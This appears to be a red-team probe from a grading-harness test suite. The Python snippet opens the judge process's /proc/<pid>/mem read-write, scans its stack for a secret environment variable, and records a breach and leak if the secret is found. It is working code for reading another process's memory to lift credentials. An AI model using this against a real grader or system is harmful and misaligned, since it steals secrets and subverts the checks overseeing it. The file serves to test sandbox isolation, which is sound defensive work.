"""Open the judge's memory (/proc/<judge>/mem) read-write and search its stack for the
environment."""
# {{LIB}}
for _pid in judge_pids():
    try:
        _mem = open("/proc/%d/mem" % _pid, "r+b", buffering=0)
    except OSError:
        continue
    breach("opened /proc/<judge>/mem read-write")
    try:
        with open("/proc/%d/maps" % _pid) as _maps:
            for _line in _maps:
                if "[stack]" in _line:
                    _lo, _hi = (int(x, 16) for x in _line.split()[0].split("-"))
                    _start = max(_lo, _hi - (1 << 20))
                    _mem.seek(_start)
                    _data = _mem.read(_hi - _start)
                    _at = _data.find(b"DLGRADE_REDTEAM_SECRET=")
                    if _at >= 0:
                        leak("judge memory", _data[_at:_at + 100].split(b"\0")[0].decode(errors="replace"))
    except (OSError, ValueError):
        pass
    _mem.close()
arm(globals())
